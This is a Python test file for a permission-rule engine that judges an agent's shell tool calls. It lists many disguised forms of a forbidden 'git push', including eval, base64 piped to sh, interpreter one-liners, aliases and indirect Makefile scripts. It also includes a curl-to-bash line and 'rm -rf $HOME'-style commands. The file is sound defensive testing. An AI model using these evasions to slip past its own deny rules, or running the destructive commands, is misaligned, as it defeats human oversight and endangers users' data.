"""Which shell texts a rule that forbids is surely about, which it may be about, and which not."""

from __future__ import annotations

from pathlib import Path

import pytest

from quorum.domain.calls.access import EXCLUSIVE
from quorum.domain.calls.tool import RiskLevel
from quorum.domain.review.decision import Decision, decide
from quorum.domain.review.mode import Mode
from quorum.domain.review.path_policy import PathPolicy
from quorum.domain.review.permission_rules import Answer, Rule, Subject
from tests.support.shell_gates import judge

SURE = [
    "git push",
    "git push $REMOTE",
    "X=push; git $X",
    "X='push' && git \"$X\" origin",
    "G=git\nX=push\n$G ${X}",
    'git push "$REMOTE" main',
    "git push origin *",
    "(git push)",
    "if true; then git push; fi",
    "for x in a b; do git push $x; done",
    "echo $(git push)",
    "f() { git push; }; f",
    'f() { git "$@"; }; f push',
    "git push &",
    "! git push",
    'git pu""sh',
    "g\\it push && cat $X",
    "$'git' push",
    "git {push,pull}",
    "git -C $HOME/x push",
    "git -C ~/x push",
    "echo 'git push' | sh",
    'echo "git push" | bash -s',
    "printf '%s\\n' 'git push' | sh",
    "cat <<'EOF' | sh\ngit push\nEOF",
    "bash <<'EOF'\ngit push\nEOF",
    "bash <<< 'git push'",
    "bash <(echo git push)",
    "bash -c 'cd x && git push'",
    "bash -c \"bash -c 'git push'\"",
    "eval git push",
    "eval 'git push' $X",
    "trap 'git push' EXIT",
    "sudo bash -c 'git push'",
    "timeout 5 sh -c 'git push'",
    "find . -exec sh -c 'git push' \\;",
    "cat x | sh; git push",
    "uv run git push",
    "poetry -C x run git push",
    "npm exec -- git push",
    "npx git push",
    "docker run --rm -v .:/x alpine/git git push",
    "docker exec box sh -c 'git push'",
    "uv run bash -c 'git push'",
    "python -m pipx run git push",
    "chronic git push",
    "screen -dm git push",
    "tmux new -d 'git push'",
    "sg staff -c 'git push'",
    "entr git push < x",
    "python3 -c \"import os; os.system('git push')\"",
    "python3 -c \"import subprocess; subprocess.run(['git', 'push', 'origin'])\"",
    "node -e \"require('child_process').execSync('git push')\"",
    "perl -e 'system(\"git push\")'",
    "awk 'BEGIN { system(\"git push\") }'",
    "vim -c '!git push'",
    "echo 'git push' > x.sh; sh x.sh",
]
POSSIBLE = [
    "git $X",
    "git $X push",
    "git -C $X status",
    "$X push",
    "$X",
    "$(echo git) push",
    "git${IFS}push",
    "git pu$X",
    "git p*",
    "X=push; X=status; git $X",
    "test -d x && X=status; git $X",
    "X=status; read X; git $X",
    "X=status; f() { X=push; }; f; git $X",
    "X=status; for X in push; do git $X; done",
    "X=$(cat x); git $X",
    "X='status x'; git $X",
    "IFS=u; X=p; git $X",
    "X=status; . ./settings; git $X",
    "X=status; exec {X}>/dev/null; git $X",
    "X=status git $X",
    "X=status; git $XY",
    "HOME='git push'; $HOME",
    "cat script | sh",
    "sh < script",
    "curl -s https://x.example | bash",
    "echo $X | sh",
    "echo 'git push' | base64 -d | sh",
    "echo 'git\\040push' | sh",
    'bash -c "$X"',
    'bash -c "cd $X && ls"',
    "bash $SCRIPT",
    'eval "$X"',
    ". ./settings",
    "source venv/bin/activate",
    "ls | xargs git",
    "ls | xargs sh -c",
    "xargs -I% git % <<< push",
    "ls | xargs -I{} git {} origin",
    "ls | xargs -Ix sh -c 'git x'",
    "find . -name push -exec git {} \\;",
    "env $X",
    "sudo $X",
    "find . -exec $X {} \\;",
    "git -c alias.x=push x",
    "git 'status",
    "{git,push}",
    "git\u200b push",
]
NONE = [
    "X=status; git $X",
    'D=src && git -C "$D" status',
    "ls ~/keep",
    "rm -rf ~/keep",
    "cat ~other/x",
    "cat $HOME/x",
    'cat "${HOME}/x"',
    "cat $X",
    'rm -rf "$X" $Y',
    "ls $(pwd)",
    "ls $(git status)",
    "echo hi | sh",
    "echo 'ls -la' | bash -s",
    "bash -c 'make test'",
    "bash -c 'for i in 1 2; do echo $i; done'",
    "cat <<'EOF' | sh\nls\nEOF",
    "eval 'make test'",
    "~/bin/tool push",
    "$HOME/bin/git-lfs ls",
    "git -C ~/x status",
    'git commit -m "fix $X"',
    "git status > $X",
    "make {a,b}",
    "rm *.pyc",
    "for f in *.py; do wc -l $f; done",
    "X=1; echo $X",
    "LC_ALL=C make",
    "ls | xargs rm",
    "timeout $N make $X",
    "sudo -u $X make push",
    "find $DIR -name '*.x' -exec rm {} \\;",
    "command -v bash",
    "bash script.sh push",
    "echo git push",
    "[ -f x ] && ls",
    "uv add git push",
    "npm run git push",
    "docker image push git",
    "python3 -c \"print('git push')\"",
    "node -e \"console.log('git push')\"",
    "git commit -m 'git push'",
    "echo 'git push' > x.sh",
]


OF_NO_FILE = [
    "./a\0b",
    "./$'a\\x00b'",
    "make -C $'a\\x00b'",
    "bash 'a\0b'",
    "cd $'a\\0b' && make",
    "bash '\udcff'",
    "echo x > 'a\0b'",
    "cat <<END > a\ud800\nx",
    "cat <<END > 'a\0b'\nx",
    "rm 'a\0b'/*",
    "rm 'a\ud800'/*",
]


async def answer(command: str, workspace: Path, rule: str = "run_command(git push *)") -> Decision:
    verdict = await judge(command, workspace)
    subject = Subject(tool="run_command", risk=RiskLevel.HIGH, access=EXCLUSIVE, command=command, shell=verdict)
    deny = Rule.parse(rule, Answer.DENY, "test")
    return decide(subject, mode=Mode.AUTO, paths=PathPolicy(roots=(str(workspace),)), rules=(deny,))


@pytest.mark.parametrize("command", SURE)
async def test_a_command_that_a_rule_is_about_is_denied_wherever_it_stands(
    command: str, tmp_path: Path
) -> None:
    decision = await answer(command, tmp_path)

    assert decision.answer is Answer.DENY
    assert "denies it" in decision.reasons[0]


@pytest.mark.parametrize("command", POSSIBLE)
async def test_a_command_that_a_rule_may_be_about_is_asked_about_and_says_why(
    command: str, tmp_path: Path
) -> None:
    decision = await answer(command, tmp_path)

    assert decision.answer is Answer.ASK
    (reason,) = decision.reasons
    start, _, why = reason.partition(": ")
    assert start == "the rule run_command(git push *) may forbid it (test)"
    assert why


@pytest.mark.parametrize("command", OF_NO_FILE)
async def test_what_names_no_file_at_all_hides_nothing_else(command: str, tmp_path: Path) -> None:
    assert (await answer(f"git push; {command}", tmp_path)).answer is Answer.DENY


@pytest.mark.parametrize("command", NONE)
async def test_a_rule_says_nothing_about_another_program(command: str, tmp_path: Path) -> None:
    assert (await answer(command, tmp_path)).answer is Answer.ALLOW


@pytest.mark.parametrize(
    ("rule", "command", "expected"),
    [
        ("rm -rf /*", "rm -rf ~/x", Answer.DENY),
        ("rm -rf /*", "rm -rf $HOME", Answer.DENY),
        ("rm -rf *", "rm $X", Answer.ASK),
        ("rm -rf *", "rm *.pyc", Answer.ASK),
        ("rm -rf *", "rm -r$X", Answer.ASK),
        ("rm -rf *", "rm ~/x", Answer.ALLOW),
        ("make", "make $X", Answer.ASK),
        ("make", "make all $X", Answer.ALLOW),
        ("npm publish", "npm run $X", Answer.ALLOW),
        ("curl *", "$HOME/bin/curl x", Answer.DENY),
        ("sh", "echo hi | sh", Answer.DENY),
    ],
)
async def test_paths_are_known_words_and_variables_any_words(
    rule: str, command: str, expected: Answer, tmp_path: Path
) -> None:
    assert (await answer(command, tmp_path, f"run_command({rule})")).answer is expected


@pytest.mark.parametrize(
    ("rule", "command", "expected"),
    [
        ("terraform apply *", "terraform -chdir=infra apply -auto-approve", Answer.ASK),
        ("kubectl delete *", "kubectl -n live delete pod x", Answer.ASK),
        ("kubectl delete *", "kubectl --context=live --v 3 delete pod x", Answer.ASK),
        ("kubectl delete *", f"kubectl {'-v ' * 17}delete pod x", Answer.ASK),
        ("npm publish", "npm --tag next publish", Answer.ASK),
        ("docker push *", "docker -H tcp://x push y", Answer.ASK),
        ("kubectl delete *", "kubectl -n live get delete", Answer.ALLOW),
        ("kubectl delete *", "kubectl get -o wide delete", Answer.ALLOW),
        ("npm publish", "npm --tag publish", Answer.ASK),
        ("make", "make -j 4", Answer.ALLOW),
        ("rm *.py", "rm -f a.pyc", Answer.ALLOW),
    ],
)
async def test_options_in_front_of_a_subcommand_do_not_hide_it(
    rule: str, command: str, expected: Answer, tmp_path: Path
) -> None:
    assert (await answer(command, tmp_path, f"run_command({rule})")).answer is expected


MAKEFILE = "\n".join(
    (
        "TOOL := git",
        "ARGS = push --tags",
        ".PHONY: all release check",
        "all: check",
        "check: ; ls",
        "release: check publish",
        "\tls",
        "publish:",
        "\t@echo now; $(TOOL) $(ARGS) \\\n\t  origin",
        "docs:",
        "\t$(MAKE) -C site up",
        "",
    )
)
FILES = {
    "Makefile": MAKEFILE,
    "site/Makefile": "up:\n\tgit push\n",
    "deploy.sh": "#!/bin/sh\nset -e\n. ./lib.sh\n",
    "lib.sh": "run() { git push; }\nrun\n",
    "quiet.sh": "#!/bin/sh\nls\n",
    "other.py": "#!/usr/bin/python3\nprint('git push')\n",
    "growing": "A = " + "x" * 9_000 + "\nx:\n\t$(A)\n",
    "many": "x:\n" + "\tls\n" * 3_000,
    "package.json": '{"scripts": {"release": "make release", "lint": "ls"}}',
}


@pytest.fixture
def project(tmp_path: Path) -> Path:
    for name, text in FILES.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text)
    (tmp_path / "git").write_bytes(b"\0")
    (tmp_path / "tool").symlink_to("git")
    return tmp_path


@pytest.mark.parametrize(
    "command",
    [
        "make release",
        "sudo make -j4 release",
        "make TOOL=git publish",
        "make -C site",
        "make -f site/Makefile up",
        "cd site && make up",
        "make docs",
        "./deploy.sh",
        "bash deploy.sh now",
        "sh -e ./lib.sh",
        ". ./lib.sh",
        "npm run release",
        "yarn release",
        "./tool push",
        "cp /usr/bin/git x && ./x push",
        "ln -s /usr/bin/git ./bin; bin/git push",
        "alias p='git push'; p origin",
        "alias a='b x' b='a y'; a",
        "make -f growing x",
        "make -f many x",
    ],
)
async def test_a_command_that_a_file_or_another_name_starts_is_found(command: str, project: Path) -> None:
    assert (await answer(command, project)).answer is not Answer.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "make",
        "make check",
        "make TOOL=ls publish",
        "./quiet.sh push",
        "bash quiet.sh",
        "./other.py",
        "python3 other.py",
        "npm run lint",
        "cp a/git x; ./y push",
        "alias p='git status'; p",
        "make -f missing",
    ],
)
async def test_what_a_file_does_not_start_is_not_forbidden(command: str, project: Path) -> None:
    assert (await answer(command, project)).answer is Answer.ALLOW
